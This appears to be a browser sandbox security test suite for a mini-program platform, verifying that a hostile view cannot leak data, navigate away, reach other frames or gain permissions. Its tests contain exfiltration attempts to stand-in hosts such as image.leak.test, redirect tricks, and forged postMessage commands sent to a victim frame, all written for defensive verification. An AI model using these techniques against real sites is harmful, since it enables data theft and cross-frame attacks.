// Nothing leaves a view: cases 6, 8–15 and 19. The view is hostile here, which it never is: it runs no code of a program.
import { programLabel } from '@atrium/protocol';
import type { Frame } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import type { Phone } from '../harness/phone.ts';
import { hasAllowList } from './chromium.ts';
import { CONTROL, useAttack, VICTIM } from './stage.ts';
import { tryEverything, tryPeers } from './view-vectors.ts';

const attack = useAttack();
const NAVIGATED = /navigated|navigate a frame/;

const everything = async (phone: Phone, names: string): Promise<number> => {
  await attack.open(phone);
  const view = await phone.frontFrame();
  return view.run(tryEverything, attack.sinks.origin, names);
};
const peers = async (phone: Phone, names: string): Promise<string> => {
  const view = await phone.frontFrame();
  const { udpPort, tcpPort } = attack.sinks;
  // The browser may end the frame's process for trying.
  return view.run(tryPeers, udpPort, tcpPort, names).catch((error: unknown) => String(error));
};

describe('a hostile view reaches nobody', () => {
  it('8: by any of eighty-seven ways a document has', async () => {
    // Without the allow list two of them are look-ups of names, and nothing but that.
    const names = hasAllowList ? 'view-' : `${CONTROL}view-`;
    expect(await everything(attack.phone, names)).toBeGreaterThanOrEqual(87);
    expect(attack.sinks.take()).toEqual([]);
  });

  it.skipIf(!hasAllowList)(
    '9: nor by peers, names and connections (needs a browser with Connection-Allowlist)',
    async () => {
      await attack.open();
      await peers(attack.phone, 'view-');
      expect(attack.sinks.take()).toEqual([]);
    },
  );

  it('control: without policy and allow list most of them lead out', async () => {
    const { phone } = await attack.breached('frame policy', 'allow list', 'frame-src');
    await everything(phone, `${CONTROL}all-`);
    await peers(phone, `${CONTROL}all-`);
    const hits = new Set(attack.sinks.take());
    expect(hits.size).toBeGreaterThan(40);
    expect(hits).toContain('udp');
    await attack.lookUp(`${CONTROL}all-fetch.leak.test`);
  });

  it('control: without the allow list alone, peers lead out', async () => {
    const { phone } = await attack.breached('allow list');
    await attack.open(phone);
    await peers(phone, `${CONTROL}peers-`);
    expect(new Set(attack.sinks.take())).toEqual(new Set(['udp', 'tcp']));
  });

  it('control: and so do names (needs a browser that follows hints: not the headless shell)', async (context) => {
    context.skip(!attack.chromium.followsHints);
    const { phone } = await attack.breached('allow list');
    await everything(phone, `${CONTROL}list-`);
    await attack.lookUp(`${CONTROL}list-prefetch.leak.test`);
    await attack.lookUp(`${CONTROL}list-preconnect.leak.test`);
  });

  it('19: nor by styles, fonts and pictures of the program, which lead to its own label', async () => {
    const { phone } = attack;
    await attack.open();
    await attack.act('paint', {
      data: {
        src: 'http://image.leak.test/x.png',
        style: 'background: url(http://style.leak.test/x)',
      },
    });
    const view = await phone.frontFrame();
    const loaded = await phone.until('the picture to be asked for', () =>
      view.run(() => {
        const names = performance.getEntriesByType('resource').map((it) => it.name);
        return names.some((it) => it.includes('image.leak.test')) && names;
      }),
    );
    const label = attack.server.guestOrigin(await programLabel('mphostile1'));
    expect(loaded.filter((name) => !name.startsWith(`${label}/`))).toEqual([]);
  });
});

describe('a hostile view goes nowhere', () => {
  const WAYS: Record<string, (to: string) => void> = {
    'location =': (to) => (location.href = to),
    'location.replace': (to) => location.replace(to),
    'meta refresh': (to) => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `0;url=${to}`;
      document.head.append(meta);
    },
    'a click': (to) => {
      const link = document.createElement('a');
      link.href = to;
      link.ping = to;
      document.body.append(link);
      link.click();
    },
    navigation: (to) =>
      void (
        globalThis as unknown as { navigation: { navigate(to: string): unknown } }
      ).navigation.navigate(to),
    'open itself': (to) => void open(to, '_self'),
  };
  const go = async (phone: Phone, way: (to: string) => void, to: string): Promise<void> => {
    await attack.open(phone);
    const view = await phone.frontFrame();
    await view.run(way, to).catch(() => undefined);
  };

  it.each(Object.keys(WAYS))('10: not by %s: it ends, nothing was sent', async (name) => {
    const way = WAYS[name] ?? (() => undefined);
    await go(attack.phone, way, `${attack.sinks.origin}/away`);
    expect(await attack.crash()).toMatch(NAVIGATED);
    expect(attack.sinks.take()).toEqual([]);
  });

  it('10: not by sending a form', async () => {
    await attack.open();
    const view = await attack.phone.frontFrame();
    await view.run((to) => {
      const form = document.createElement('form');
      form.action = to;
      document.body.append(form);
      form.submit();
    }, `${attack.sinks.origin}/form`);
    await attack.closes();
    expect(attack.sinks.take()).toEqual([]);
  });

  it('control: without the host’s frame-src it takes its data along', async () => {
    const { phone } = await attack.breached('frame-src', 'allow list');
    await go(phone, (to) => (location.href = to), `${attack.sinks.origin}/away?data`);
    await phone.until('the hit', async () => attack.sinks.hits.length > 0);
    expect(attack.sinks.take()).toContain('http GET /away?data');
  });

  const other = async (origin: (label: string) => string): Promise<string> =>
    `${origin(await programLabel(VICTIM))}/rt/x/view.html?data`;

  it('11: to another program’s label: it ends with the second load', async () => {
    await go(attack.phone, (to) => (location.href = to), await other(attack.server.guestOrigin));
    expect(await attack.crash()).toMatch(NAVIGATED);
  });

  it('control: were the second load not noticed, it would live on', async () => {
    const { phone, server } = await attack.breached('second load', 'allow list');
    await go(phone, (to) => (location.href = to), await other(server.guestOrigin));
    await phone.until('the other page', async () =>
      phone.page.frames().some((it) => it.url().endsWith('?data')),
    );
    expect((await phone.events()).filter((it) => it.type === 'program:crash')).toEqual([]);
  });

  it('12: with a real tap it neither moves the host nor opens a window', async () => {
    const { phone } = attack;
    await attack.open();
    const tabs = attack.chromium.context.pages().length;
    const before = phone.page.url();
    await phone.tap('#page');
    const view = await phone.frontFrame();
    const said = await view.run((to) => {
      const attempt = (run: () => unknown): string => {
        try {
          return String(run());
        } catch (error) {
          return `threw ${(error as Error).name}`;
        }
      };
      const click = (target: string): void => {
        const link = Object.assign(document.createElement('a'), { href: to, target });
        document.body.append(link);
        link.click();
      };
      click('_top');
      click('_blank');
      return {
        active: navigator.userActivation.isActive,
        open: attempt(() => open(to)),
        top: attempt(() => ((top as Window).location.href = to)),
        parent: attempt(() => parent.document.title),
      };
    }, `${attack.sinks.origin}/top`);
    expect(said).toEqual({
      active: true,
      open: 'null',
      top: 'threw SecurityError',
      parent: 'threw SecurityError',
    });
    expect(attack.chromium.context.pages()).toHaveLength(tabs);
    expect(phone.page.url()).toBe(before);
  });
});

describe('a hostile view has nothing', () => {
  it('13: frames inside it are strangers to it and run no script of its making', async () => {
    await attack.open();
    const view = await attack.phone.frontFrame();
    const said = await view.run(async () => {
      const heard: unknown[] = [];
      addEventListener('message', (event) => {
        if (event.source !== parent) heard.push(event.data);
      });
      const reach = (frame: HTMLIFrameElement): string => {
        try {
          return String(frame.contentWindow && frame.contentWindow.document);
        } catch (error) {
          return (error as Error).name;
        }
      };
      const text = `<script>parent.postMessage('ran','*')</script>`;
      const blob = URL.createObjectURL(new Blob([text], { type: 'text/html' }));
      const frames = [{ srcdoc: text }, { src: blob }, { src: `data:text/html,${text}` }, {}];
      const made = frames.map((it) => {
        const frame = Object.assign(document.createElement('iframe'), it);
        document.body.append(frame);
        return frame;
      });
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { heard, reached: made.map(reach) };
    });
    expect(said.heard).toEqual([]);
    expect(said.reached).toEqual(Array.from({ length: 4 }, () => 'SecurityError'));
  });

  const abilities = async (phone: Phone): Promise<Record<string, string>> => {
    await phone.tap('#page');
    const view = await phone.frontFrame();
    return view.run(async () => {
      const said: Record<string, string> = {};
      const ask = async (name: string, run: () => unknown): Promise<void> => {
        try {
          const late = new Promise((resolve) => setTimeout(resolve, 400, 'no answer'));
          said[name] = String(await Promise.race([run(), late]));
        } catch (error) {
          said[name] = (error as Error).name;
        }
      };
      const n = navigator as unknown as Record<string, Record<string, (o?: object) => unknown>>;
      const w = window as unknown as Record<string, (o?: object) => unknown>;
      await ask('alert', () => alert('x'));
      await ask('confirm', () => confirm('x'));
      await ask('prompt', () => prompt('x'));
      await ask('print', () => print());
      await ask('fullscreen', () => document.documentElement.requestFullscreen());
      await ask('lock', () => document.documentElement.requestPointerLock());
      await ask('read', () => n['clipboard']?.['readText']?.());
      await ask('write', () => n['clipboard']?.['writeText']?.({}));
      await ask('camera', () => n['mediaDevices']?.['getUserMedia']?.({ video: true }));
      await ask('screen', () => n['mediaDevices']?.['getDisplayMedia']?.({ video: true }));
      await ask('usb', () => n['usb']?.['requestDevice']?.({ filters: [] }));
      await ask('hid', () => n['hid']?.['requestDevice']?.({ filters: [] }));
      await ask('serial', () => n['serial']?.['requestPort']?.());
      await ask('bluetooth', () => n['bluetooth']?.['requestDevice']?.({ acceptAllDevices: true }));
      await ask('credentials', () =>
        n['credentials']?.['get']?.({ publicKey: { challenge: new Uint8Array(16) } }),
      );
      await ask('wake', () => n['wakeLock']?.['request']?.());
      await ask('open file', () => w['showOpenFilePicker']?.());
      await ask('save file', () => w['showSaveFilePicker']?.());
      await ask('notify', () => Notification.requestPermission());
      await ask('idle', () =>
        (w['IdleDetector'] as unknown as Record<string, () => unknown>)?.['requestPermission']?.(),
      );
      await ask('fonts', () => w['queryLocalFonts']?.());
      await ask(
        'geolocation',
        () =>
          new Promise((resolve, reject) => {
            navigator.geolocation.getCurrentPosition(resolve, () =>
              reject(new DOMException('', 'Denied')),
            );
          }),
      );
      await ask('service worker', () => navigator.serviceWorker.register('/rt/x/view.js'));
      await ask('storage', () => localStorage.length);
      await ask('database', () => indexedDB.open('x'));
      await ask('caches', () => caches.keys());
      await ask('cookie', () => (document.cookie = 'a=b'));
      await ask('locks', () => n['locks']?.['query']?.());
      await ask('shared', () => new SharedWorker('data:text/javascript,'));
      await ask('worker', () => new Worker(URL.createObjectURL(new Blob(['']))));
      await ask('origin', () => self.origin);
      return said;
    });
  };
  // 'default': a notification was neither granted nor asked for.
  const HARMLESS =
    /^(?:undefined|null|false|denied|default|no answer|[A-Z]\w*(?:Error|Denied)|Denied)$/;

  it('14, 15, 6: no ability of the browser, no storage, also with a real tap', async () => {
    const { phone } = attack;
    let dialogs = 0;
    phone.page.on('dialog', (dialog) => {
      dialogs++;
      void dialog.dismiss();
    });
    await attack.open();
    const said = await abilities(phone);
    expect(said).toMatchObject({
      origin: 'null',
      storage: 'SecurityError',
      database: 'SecurityError',
      caches: 'SecurityError',
      cookie: 'SecurityError',
      alert: 'undefined',
      camera: 'SecurityError',
      write: 'NotAllowedError',
      fullscreen: 'TypeError',
    });
    const { worker, ...others } = said;
    // A worker of the view is made and never runs: worker-src is 'none'.
    expect(worker).toBeDefined();
    const granted = Object.entries(others).filter(
      ([name, it]) => name !== 'origin' && !HARMLESS.test(it),
    );
    expect(granted).toEqual([]);
    expect(dialogs).toBe(0);
  });

  it('control: without the sandbox it has an origin, and storage', async () => {
    const { phone, server } = await attack.breached('sandbox');
    await attack.open(phone);
    const said = await abilities(phone);
    expect(said['origin']).toBe(server.guestOrigin(await programLabel('mphostile1')));
    expect(said['storage']).toBe('0');
  });

  it('15: opened by itself, in a tab of its own, it is still nobody', async () => {
    await attack.open();
    const url =
      attack.phone.page
        .frames()
        .find((it) => it.url().includes('/view.html'))
        ?.url() ?? '';
    const tab = await attack.chromium.context.newPage();
    await tab.goto(url);
    expect(await tab.evaluate(() => self.origin)).toBe('null');
    await tab.close();
  });

  it('6, 7: programs do not hear each other, and take no orders from other frames', async () => {
    const { phone } = attack;
    await attack.open();
    await phone.frontFrame();
    await phone.open({ appId: VICTIM });
    await phone.record(VICTIM, 'home.onReady');
    const viewOf = async (appId: string): Promise<Frame> => {
      const label = attack.server.guestOrigin(await programLabel(appId));
      return phone.until(`a view of ${appId}`, async () =>
        phone.page
          .frames()
          .find((it) => it.url().startsWith(`${label}/`) && it.url().endsWith('/view.html')),
      );
    };
    const [hostile, victim] = await Promise.all([viewOf('mphostile1'), viewOf(VICTIM)]);
    await victim.evaluate(() => {
      const looks = (): string =>
        document.documentElement.cloneNode(false).isEqualNode(before) + '';
      const before = document.documentElement.cloneNode(false);
      const own = { heard: 0, broadcasts: 0, looks };
      Object.assign(window, { own });
      addEventListener('message', (event) => {
        if (event.source !== parent) own.heard++;
      });
      new BroadcastChannel('x').onmessage = () => own.broadcasts++;
    });
    await hostile.evaluate(() => {
      new BroadcastChannel('x').postMessage('broadcast');
      const all = top as Window;
      for (let i = 0; i < all.length; i++) {
        const frame = all[i];
        if (!frame || frame === window) continue;
        const { port1 } = new MessageChannel();
        const boot = { k: 'boot', viewId: 1, runtime: '', code: '', launch: '{}' };
        frame.postMessage(boot, '*', [port1]);
        frame.postMessage({ k: 'theme', theme: 'dark' }, '*');
        frame.postMessage({ k: 'attest' }, '*');
      }
    });
    const said = await phone.until('the forged messages', () =>
      victim.evaluate(() => {
        const { own } = window as unknown as {
          own: { heard: number; broadcasts: number; looks(): string };
        };
        const { heard, broadcasts } = own;
        return heard >= 3 && { heard, broadcasts, same: own.looks() };
      }),
    );
    expect(said).toEqual({ heard: 3, broadcasts: 0, same: 'true' });
    expect(Object.keys(await phone.programs()).sort()).toEqual(['mphostile1', VICTIM]);
  });
});
